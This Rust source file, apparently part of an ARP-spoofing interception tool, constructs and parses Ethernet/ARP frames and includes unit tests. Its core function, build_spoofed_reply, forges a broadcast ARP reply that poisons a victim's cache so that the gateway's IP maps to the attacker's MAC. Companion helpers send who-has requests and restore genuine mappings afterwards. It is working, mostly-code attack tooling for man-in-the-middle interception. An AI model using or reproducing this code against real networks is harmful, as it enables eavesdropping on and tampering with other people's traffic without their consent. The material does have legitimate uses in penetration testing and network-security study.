//! Build complete Ethernet + ARP frames.
//!
//! [`ArpPacket`] is the owned, fully-typed form of a 42-byte ARP frame. The
//! constructors here cover the three frames an interception session needs:
//! the poisoning reply, the broadcast request used to learn a MAC address,
//! and the reply that puts a genuine mapping back.
use std::net::Ipv4Addr;

use crate::addr::MacAddr;
use crate::arp::{self, Operation};
use crate::enet::{self, EtherType, LengthType};
use crate::{Error, Result};

/// Length of an Ethernet frame carrying an Ethernet/IPv4 ARP message,
/// without padding or FCS.
pub const FRAME_LEN: usize = enet::HEADER_LEN + arp::HEADER_LEN;

/// An ARP message together with the Ethernet header that carries it.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub struct ArpPacket {
    pub ether_dst: MacAddr,
    pub ether_src: MacAddr,
    pub arp_op: Operation,
    pub sender_mac: MacAddr,
    pub sender_ip: Ipv4Addr,
    pub target_mac: MacAddr,
    pub target_ip: Ipv4Addr,
}

impl ArpPacket {
    /// The EtherType this frame is sent with. Always ARP.
    #[inline]
    #[must_use]
    pub fn ether_type(&self) -> EtherType {
        EtherType::Arp
    }

    /// Serialize into a fresh [`FRAME_LEN`] byte array.
    #[must_use]
    pub fn to_bytes(&self) -> [u8; FRAME_LEN] {
        let mut buf = [0u8; FRAME_LEN];
        // Cannot fail: the array is exactly FRAME_LEN bytes long.
        let _ = self.write_to(&mut buf);
        buf
    }

    /// Serialize into the front of `buf`, returning the number of bytes
    /// written. Bytes past [`FRAME_LEN`] are left untouched.
    ///
    /// # Errors
    ///
    /// Fails when `buf` is shorter than [`FRAME_LEN`].
    pub fn write_to(&self, buf: &mut [u8]) -> Result<usize> {
        if buf.len() < FRAME_LEN {
            return Err(Error::NotEnoughSpace("buffer too small for arp frame"));
        }
        let (header, payload) = buf.split_at_mut(enet::HEADER_LEN);

        enet::Frame::<&[u8]>::builder(header)?
            .dest(self.ether_dst)
            .source(self.ether_src)
            .ethertype(self.ether_type())
            .build();

        arp::Packet::<&[u8]>::builder(&mut payload[..arp::HEADER_LEN])?
            .operation(self.arp_op)
            .sender_hardware_addr(self.sender_mac)
            .sender_protocol_addr(self.sender_ip)
            .target_hardware_addr(self.target_mac)
            .target_protocol_addr(self.target_ip)
            .build();

        Ok(FRAME_LEN)
    }

    /// Parse an ARP frame as received from a packet socket. Trailing bytes
    /// (Ethernet padding) are ignored.
    ///
    /// # Errors
    ///
    /// Fails with [`Error::CannotParse`] when the buffer is too short, the
    /// EtherType is not ARP, or the ARP message is not Ethernet/IPv4.
    pub fn from_bytes(bytes: &[u8]) -> Result<Self> {
        let frame = enet::Frame::new(bytes)?;
        if frame.length_type() != LengthType::Type(EtherType::Arp) {
            return Err(Error::CannotParse("frame does not carry arp"));
        }

        let message = arp::Packet::new(frame.payload())?;
        if !message.is_ethernet_ipv4() {
            return Err(Error::CannotParse("arp message is not ethernet/ipv4"));
        }

        Ok(Self {
            ether_dst: frame.dest(),
            ether_src: frame.source(),
            arp_op: message.operation(),
            sender_mac: message.sender_hardware_addr(),
            sender_ip: message.sender_protocol_addr(),
            target_mac: message.target_hardware_addr(),
            target_ip: message.target_protocol_addr(),
        })
    }
}

/// Forge the reply that tells `victim_ip` that `impersonated_ip` lives at
/// `source_mac`.
///
/// The frame is broadcast and leaves the target hardware address zeroed;
/// receivers fill their caches from the sender fields alone.
///
/// # Errors
///
/// Fails with [`Error::ConstructionError`] when either IP address is
/// missing.
pub fn build_spoofed_reply(
    source_mac: MacAddr,
    victim_ip: Option<Ipv4Addr>,
    impersonated_ip: Option<Ipv4Addr>,
) -> Result<ArpPacket> {
    let victim_ip = victim_ip.ok_or(Error::ConstructionError("missing victim ip address"))?;
    let impersonated_ip =
        impersonated_ip.ok_or(Error::ConstructionError("missing impersonated ip address"))?;

    log::trace!("forging reply: {impersonated_ip} is-at {source_mac} for {victim_ip}");
    Ok(ArpPacket {
        ether_dst: MacAddr::BROADCAST,
        ether_src: source_mac,
        arp_op: Operation::Reply,
        sender_mac: source_mac,
        sender_ip: impersonated_ip,
        target_mac: MacAddr::zero(),
        target_ip: victim_ip,
    })
}

/// Build the broadcast "who-has `target_ip`" request.
#[must_use]
pub fn build_request(source_mac: MacAddr, source_ip: Ipv4Addr, target_ip: Ipv4Addr) -> ArpPacket {
    ArpPacket {
        ether_dst: MacAddr::BROADCAST,
        ether_src: source_mac,
        arp_op: Operation::Request,
        sender_mac: source_mac,
        sender_ip: source_ip,
        target_mac: MacAddr::zero(),
        target_ip,
    }
}

/// Build the unicast reply that re-announces the genuine `host_ip` to
/// `host_mac` mapping to a previously poisoned victim.
#[must_use]
pub fn build_restore_reply(
    host_mac: MacAddr,
    host_ip: Ipv4Addr,
    victim_mac: MacAddr,
    victim_ip: Ipv4Addr,
) -> ArpPacket {
    ArpPacket {
        ether_dst: victim_mac,
        ether_src: host_mac,
        arp_op: Operation::Reply,
        sender_mac: host_mac,
        sender_ip: host_ip,
        target_mac: victim_mac,
        target_ip: victim_ip,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    const SOURCE: MacAddr = MacAddr::new(0xaa, 0xbb, 0xcc, 0xdd, 0xee, 0xff);
    const VICTIM: Ipv4Addr = Ipv4Addr::new(10, 0, 0, 5);
    const GATEWAY: Ipv4Addr = Ipv4Addr::new(10, 0, 0, 1);

    #[test]
    fn spoofed_reply_requires_victim_ip() {
        let result = build_spoofed_reply(SOURCE, None, Some(GATEWAY));
        assert!(matches!(result, Err(Error::ConstructionError(_))));
    }

    #[test]
    fn spoofed_reply_requires_impersonated_ip() {
        let result = build_spoofed_reply(SOURCE, Some(VICTIM), None);
        assert!(matches!(result, Err(Error::ConstructionError(_))));
    }

    #[test]
    fn spoofed_reply_has_expected_fields() -> Result<()> {
        let packet = build_spoofed_reply(SOURCE, Some(VICTIM), Some(GATEWAY))?;
        assert_eq!(packet.arp_op, Operation::Reply);
        assert_eq!(packet.sender_mac.to_string(), "aa:bb:cc:dd:ee:ff");
        assert_eq!(packet.sender_ip, GATEWAY);
        assert_eq!(packet.target_ip, VICTIM);
        assert_eq!(packet.target_mac, MacAddr::zero());
        assert_eq!(packet.ether_src, SOURCE);
        assert_eq!(packet.ether_dst.to_string(), "ff:ff:ff:ff:ff:ff");
        assert_eq!(packet.ether_type(), EtherType::Arp);
        Ok(())
    }

    #[test]
    fn spoofed_reply_has_expected_wire_layout() -> Result<()> {
        let bytes = build_spoofed_reply(SOURCE, Some(VICTIM), Some(GATEWAY))?.to_bytes();
        let expected: [u8; FRAME_LEN] = [
            // ethernet: dest, source, type
            0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xaa, 0xbb, 0xcc, 0xdd, 0xee, 0xff, 0x08, 0x06,
            // arp: htype, ptype, hlen, plen, op
            0x00, 0x01, 0x08, 0x00, 0x06, 0x04, 0x00, 0x02,
            // sender mac, sender ip
            0xaa, 0xbb, 0xcc, 0xdd, 0xee, 0xff, 10, 0, 0, 1,
            // target mac, target ip
            0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 10, 0, 0, 5,
        ];
        assert_eq!(bytes, expected);
        Ok(())
    }

    #[test]
    fn from_bytes_reads_back_padded_frame() -> Result<()> {
        let request = build_request(SOURCE, GATEWAY, VICTIM);
        let mut buf = [0u8; 60];
        request.write_to(&mut buf)?;
        assert_eq!(ArpPacket::from_bytes(&buf)?, request);
        Ok(())
    }

    #[test]
    fn from_bytes_rejects_other_ethertypes() {
        let mut bytes = build_request(SOURCE, GATEWAY, VICTIM).to_bytes();
        bytes[12] = 0x08;
        bytes[13] = 0x00;
        assert!(ArpPacket::from_bytes(&bytes).is_err());
    }

    #[test]
    fn from_bytes_rejects_truncated_frame() {
        let bytes = build_request(SOURCE, GATEWAY, VICTIM).to_bytes();
        assert!(ArpPacket::from_bytes(&bytes[..FRAME_LEN - 1]).is_err());
    }

    #[test]
    fn write_to_rejects_small_buffer() {
        let mut buf = [0u8; FRAME_LEN - 1];
        assert!(build_request(SOURCE, GATEWAY, VICTIM).write_to(&mut buf).is_err());
    }

    #[test]
    fn restore_reply_is_unicast_to_victim() {
        let victim_mac = MacAddr::new(2, 0, 0, 0, 0, 5);
        let gateway_mac = MacAddr::new(2, 0, 0, 0, 0, 1);
        let packet = build_restore_reply(gateway_mac, GATEWAY, victim_mac, VICTIM);
        assert_eq!(packet.ether_dst, victim_mac);
        assert_eq!(packet.target_mac, victim_mac);
        assert_eq!(packet.sender_mac, gateway_mac);
        assert_eq!(packet.sender_ip, GATEWAY);
        assert_eq!(packet.arp_op, Operation::Reply);
    }
}
